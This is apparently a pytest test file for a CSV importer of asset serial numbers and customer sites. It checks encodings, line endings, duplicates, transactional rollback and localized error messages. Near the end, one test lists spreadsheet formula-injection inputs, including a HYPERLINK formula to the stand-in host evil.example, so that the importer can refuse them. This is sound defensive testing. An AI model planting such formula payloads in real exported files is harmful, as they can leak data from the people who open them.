"""Installed-base CSV import: every row checked, line numbers reported, all or nothing."""

from __future__ import annotations

import pytest

from contracts import importers
from contracts.importers import assets_import_csv
from contracts.models import Asset, Site
from servicone.errors import DomainError
from tests.contracts.factories import CustomerFactory, SiteFactory, asset_of

HEADER = "serial_number;vendor;product_line;model;site;city;postal_code;region;timezone"


@pytest.fixture
def customer(partner):
    customer = CustomerFactory(partner=partner, name="Hôpital Saint-Louis")
    SiteFactory(customer=customer, name="Siège", city="Metz", region="57")
    return customer


def csv_of(*rows: str, header: str = HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def run(customer, data, **kwargs):
    return assets_import_csv(customer=customer, data=data, actor=None, **kwargs)


def codes(report) -> list[tuple[int, str, str]]:
    return [(e.line, e.column, e.code) for e in report.errors]


VALID = csv_of(
    "CZJ1000001;hp;proliant;DL380 Gen10;Siège;;;;",
    "czj1000002;HP;networking;Aruba 6300;siège;;;;",
    "FOX0000001;other;non_hp;Cisco UCS;Entrepôt Saint-Denis;Saint-Denis;97400;974;Indian/Reunion",
    "FOX0000002;other;non_hp;;Entrepôt Saint-Denis;;;;",
)


def test_a_valid_file_creates_the_assets_and_the_missing_sites(customer):
    report = run(customer, VALID.encode())
    assert report.ok, report.errors
    assert (report.created, report.sites_created) == (4, 1)
    assets = {a.serial_number: a for a in Asset.objects.filter(customer=customer)}
    assert set(assets) == {"CZJ1000001", "CZJ1000002", "FOX0000001", "FOX0000002"}
    assert assets["CZJ1000002"].site.name == "Siège"
    assert assets["CZJ1000002"].product_line.code == "networking"
    assert assets["FOX0000001"].vendor == "other"
    assert assets["CZJ1000001"].model == "DL380 Gen10"
    new_site = Site.objects.get(customer=customer, name="Entrepôt Saint-Denis")
    assert (new_site.city, new_site.postal_code, new_site.region, new_site.timezone) == (
        "Saint-Denis",
        "97400",
        "974",
        "Indian/Reunion",
    )
    assert assets["FOX0000002"].site == new_site


def test_a_dry_run_previews_every_row_and_creates_nothing(customer):
    report = run(customer, VALID.encode(), dry_run=True)
    assert report.ok
    assert report.created == 0
    assert [row["line"] for row in report.preview] == [2, 3, 4, 5]
    assert report.preview[0]["serial_number"] == "CZJ1000001"
    assert report.preview[2]["new_site"] is True
    assert report.new_sites == ["Entrepôt Saint-Denis"]
    assert not Asset.objects.exists()
    assert Site.objects.count() == 1


def test_a_utf8_bom_is_ignored(customer):
    report = run(customer, b"\xef\xbb\xbf" + VALID.encode())
    assert report.ok, report.errors
    assert report.created == 4


def test_a_text_with_a_bom_is_ignored_too(customer):
    assert run(customer, "\ufeff" + VALID).created == 4


def test_commas_are_sniffed_from_the_header(customer):
    content = VALID.replace(";", ",")
    report = run(customer, content.encode())
    assert report.ok, report.errors
    assert report.created == 4


def test_a_semicolon_file_may_carry_commas_in_its_values(customer):
    content = csv_of('CZJ1000001;hp;proliant;"DL380, Gen10";Siège;;;;')
    report = run(customer, content.encode())
    assert report.ok, report.errors
    assert Asset.objects.get().model == "DL380, Gen10"


def test_crlf_line_endings_and_blank_lines_are_fine(customer):
    content = VALID.replace("\n", "\r\n") + "\r\n;;;;;;;;\r\n"
    report = run(customer, content.encode())
    assert report.ok, report.errors
    assert report.created == 4


def test_optional_columns_may_be_left_out(customer):
    content = csv_of("CZJ1000001;proliant;Siège", header="serial_number;product_line;site")
    report = run(customer, content.encode())
    assert report.ok, report.errors
    asset = Asset.objects.get()
    assert asset.vendor == "hp"


def test_a_region_may_be_given_by_name(customer):
    content = csv_of("CZJ1000001;hp;proliant;;Usine;Colmar;68000;Alsace;")
    assert run(customer, content.encode()).ok
    assert Site.objects.get(name="Usine").region == "6AE"


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (";hp;proliant;;Siège;;;;", (3, "serial_number", "required")),
        ("CZJ2;dell;proliant;;Siège;;;;", (3, "vendor", "unknown_vendor")),
        ("CZJ2;hp;gizmo;;Siège;;;;", (3, "product_line", "unknown_product_line")),
        ("CZJ2;hp;;;Siège;;;;", (3, "product_line", "required")),
        ("CZJ2;hp;proliant;;;;;;", (3, "site", "required")),
        ("CZJ2;hp;proliant;;Agence;;;;", (3, "city", "required")),
        ("CZJ2;hp;proliant;;Agence;Lyon;;99;", (3, "region", "invalid_region")),
        ("CZJ2;hp;proliant;;Agence;Lyon;;;Mars/Olympus", (3, "timezone", "invalid_timezone")),
        ("CZJ2;hp;proliant;;Siège", (3, "", "column_count")),
        (f"{'X' * 65};hp;proliant;;Siège;;;;", (3, "serial_number", "too_long")),
        ("czj1;hp;proliant;;Siège;;;;", (3, "serial_number", "duplicate_in_file")),
    ],
)
def test_each_invalid_row_is_reported_with_its_line_and_nothing_is_imported(
    customer, row, expected
):
    content = csv_of("CZJ1;hp;proliant;;Siège;;;;", row)
    report = run(customer, content.encode())
    assert expected in codes(report)
    assert all(e.message for e in report.errors)
    assert report.created == 0
    assert not Asset.objects.exists()
    assert Site.objects.count() == 1


def test_the_duplicate_row_names_the_first_line(customer):
    report = run(
        customer, csv_of("CZJ1;hp;proliant;;Siège;;;;", "CZJ1;hp;proliant;;Siège;;;;").encode()
    )
    assert report.errors[0].message == "Le numéro de série CZJ1 figure déjà ligne 2."


def test_the_same_serial_with_another_vendor_is_not_a_duplicate(customer):
    report = run(customer, csv_of("SN1;hp;proliant;;Siège;;;;", "SN1;other;non_hp;;Siège;;;;"))
    assert report.ok, report.errors
    assert report.created == 2


def test_a_serial_registered_by_another_partner_is_imported_and_held_for_hp_naming_no_one(
    customer, other_partner
):
    # Issue 13, finding 6: refusing it told this partner that someone else had the asset
    # and let a partner block another by registering first. It is held for HP instead.
    from contracts.models import AssetRegistration

    asset_of(other_partner, serial_number="CZJTAKEN")
    report = run(customer, csv_of("CZJ1;hp;proliant;;Siège;;;;", "czjtaken;hp;proliant;;Siège;;;;"))
    assert report.ok, report.errors
    assert report.created == 2
    held = Asset.objects.get(customer=customer, serial_number="CZJTAKEN")
    assert held.registration == AssetRegistration.HELD


def test_a_serial_this_partner_registered_already_is_refused(customer):
    asset_of(customer.partner, serial_number="CZJMINE")
    report = run(customer, csv_of("CZJ1;hp;proliant;;Siège;;;;", "czjmine;hp;proliant;;Siège;;;;"))
    assert codes(report) == [(3, "serial_number", "serial_taken")]
    message = report.errors[0].message
    assert message == "Le numéro de série CZJMINE est déjà enregistré pour ce constructeur."
    assert Asset.objects.filter(customer=customer).count() == 0


def test_every_error_of_the_file_is_reported_at_once(customer):
    content = csv_of(
        "CZJ1;hp;gizmo;;Siège;;;;",
        "CZJ2;dell;proliant;;Siège;;;;",
        "CZJ3;hp;proliant;;Nouveau;;;;",
        "CZJ4;hp;proliant;;Siège;;;;",
    )
    report = run(customer, content.encode())
    assert [e.line for e in report.errors] == [2, 3, 4]
    assert [row["line"] for row in report.preview] == [5]


def test_a_new_site_is_defined_once_and_later_rows_may_not_contradict_it(customer):
    content = csv_of(
        "CZJ1;hp;proliant;;Agence;Lyon;69001;;",
        "CZJ2;hp;proliant;;Agence;Lyon;;;",
        "CZJ3;hp;proliant;;Agence;Villeurbanne;;;",
    )
    report = run(customer, content.encode())
    assert codes(report) == [(4, "city", "site_conflict")]


def test_header_problems_are_reported_on_line_one(customer):
    report = run(customer, "serial;vendor;product_line;site\nCZJ1;hp;proliant;Siège\n")
    assert (1, "serial", "unknown_column") in codes(report)
    assert (1, "serial_number", "missing_column") in codes(report)
    assert not Asset.objects.exists()


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty_file"),
        (HEADER.encode() + b"\n", "no_rows"),
        (HEADER.encode() + b"\nCZJ1;hp;proliant;;Si\xe8ge;;;;\n", "encoding"),
    ],
)
def test_unusable_files_are_refused(customer, data, code):
    report = run(customer, data)
    assert [e.code for e in report.errors] == [code]
    assert not Asset.objects.exists()


def test_a_latin1_file_names_the_line_of_the_bad_character(customer):
    report = run(customer, HEADER.encode() + b"\nCZJ1;hp;proliant;;Si\xe8ge;;;;\n")
    assert report.errors[0].line == 2


def test_a_failure_while_importing_rolls_back_every_row_and_site(customer, monkeypatch):
    """Validation passed but a row fails at write time (a serial registered meanwhile)."""
    real = importers.asset_create
    calls = []

    def flaky(**kwargs):
        calls.append(kwargs["serial_number"])
        if len(calls) == 3:
            raise DomainError(
                "serial_taken", "Ce numéro de série est déjà enregistré.", field="serial_number"
            )
        return real(**kwargs)

    monkeypatch.setattr(importers, "asset_create", flaky)
    report = run(customer, VALID.encode())
    assert codes(report) == [(4, "serial_number", "serial_taken")]
    assert report.created == 0
    assert not Asset.objects.exists()
    assert not Site.objects.filter(name="Entrepôt Saint-Denis").exists()


def test_too_many_rows_are_refused(customer, monkeypatch):
    monkeypatch.setattr(importers, "MAX_ROWS", 2)
    report = run(customer, VALID.encode())
    assert [e.code for e in report.errors] == ["too_many_rows"]


def test_parsing_needs_no_database_and_keeps_the_rows_beside_a_broken_line():
    parsed = importers.assets_csv_parse(
        csv_of("CZJ1;HP;proliant;DL380;Siège;;;;", "CZJ2;hp;proliant", " czj3 ;;;;Agence;Lyon;;;")
    )
    assert [(e.line, e.code) for e in parsed.errors] == [(3, "column_count")]
    assert [(r.line, r.serial_number, r.vendor, r.site, r.city) for r in parsed.rows] == [
        (2, "CZJ1", "HP", "Siège", ""),
        (4, "czj3", "", "Agence", "Lyon"),
    ]


def test_validation_writes_nothing_and_types_the_valid_rows(customer):
    parsed = importers.assets_csv_parse(VALID)
    validated = importers.assets_csv_validate(customer, parsed.rows)
    assert validated.errors == []
    first = validated.rows[0]
    assert (first.serial_number, first.vendor, first.product_line.code) == (
        "CZJ1000001",
        "hp",
        "proliant",
    )
    assert [row.new_site for row in validated.rows] == [False, False, True, True]
    assert list(validated.new_sites) == ["entrepôt saint-denis"]
    assert not Asset.objects.exists()


# --- Line endings, control characters and formulas ------------------------------------------


def test_bare_cr_line_endings_are_read_like_any_other(customer):
    # Classic Mac OS and some exports end lines with CR alone.
    content = VALID.replace("\n", "\r") + "\r;;;;;;;;\r"
    report = run(customer, content.encode())
    assert report.ok, report.errors
    assert report.created == 4


def test_a_latin1_file_with_bare_cr_line_endings_names_the_line_of_the_bad_character(customer):
    data = (
        HEADER + "\rCZJ1;hp;proliant;;Siège;;;;\r"
    ).encode() + b"CZJ2;hp;proliant;;Si\xe8ge;;;;\r"
    report = run(customer, data)
    assert [(e.line, e.code) for e in report.errors] == [(3, "encoding")]


@pytest.mark.parametrize(
    ("row", "column", "character"),
    [
        ("CZJ2;hp;proliant;DL\x00380;Siège;;;;", "model", "U+0000"),
        ("CZJ2\x1b[31m;hp;proliant;;Siège;;;;", "serial_number", "U+001B"),
        ("CZJ2;hp;proliant;;Siège\x7f;;;;", "site", "U+007F"),
        ("CZJ2;hp;proliant;;Agence;Ly\x85on;;;", "city", "U+0085"),
    ],
)
def test_a_control_character_in_a_cell_is_refused_on_its_line(customer, row, column, character):
    report = run(customer, csv_of("CZJ1;hp;proliant;;Siège;;;;", row).encode())
    assert codes(report) == [(3, column, "control_character")]
    assert report.errors[0].message == (
        f"La cellule contient un caractère de contrôle ({character}) : retirez-le."
    )
    assert not Asset.objects.exists()


@pytest.mark.parametrize(
    ("row", "column"),
    [
        ('CZJ2;hp;proliant;"=HYPERLINK(""http://evil.example/?"",""x"")";Siège;;;;', "model"),
        ("CZJ2;hp;proliant;;@SUM(A1);;;;", "site"),
        ("+CZJ2;hp;proliant;;Siège;;;;", "serial_number"),
        ("CZJ2;hp;proliant;-2+3;Siège;;;;", "model"),
        ("CZJ2;hp;proliant;\t=1+1;Siège;;;;", "model"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_refused_on_its_line(customer, row, column):
    report = run(customer, csv_of("CZJ1;hp;proliant;;Siège;;;;", row).encode())
    assert codes(report) == [(3, column, "formula")]
    assert "commence par =, +, - ou @" in report.errors[0].message
    assert not Asset.objects.exists()


def test_the_formula_message_quotes_the_cell_on_one_line_and_in_english_too(customer):
    from django.utils import translation

    content = csv_of("CZJ1;hp;proliant;;Siège;;;;", "CZJ2;hp;proliant;=1+1;Siège;;;;")
    report = run(customer, content.encode())
    assert report.errors[0].message == (
        "La cellule « =1+1 » commence par =, +, - ou @ : un tableur l'exécuterait comme "
        "une formule. Retirez ce caractère."
    )
    with translation.override("en"):
        report = run(customer, content.encode())
    assert report.errors[0].message == (
        "The cell “=1+1” begins with =, +, - or @: a spreadsheet would run it as a formula. "
        "Remove that character."
    )


def test_numbers_and_text_merely_containing_formula_characters_are_fine(customer):
    content = csv_of("CZJ2;hp;proliant;DL380 = Gen10 + @HPE;Siège;;;;")
    report = run(customer, content.encode())
    assert report.ok, report.errors


def test_a_cell_too_large_for_the_csv_reader_is_reported_not_a_crash(customer):
    content = csv_of("CZJ1;hp;proliant;;Siège;;;;", f"CZJ2;hp;proliant;{'x' * 200_000};Siège;;;;")
    report = run(customer, content.encode())
    assert [(e.line, e.code) for e in report.errors] == [(3, "unreadable")]
    assert not Asset.objects.exists()
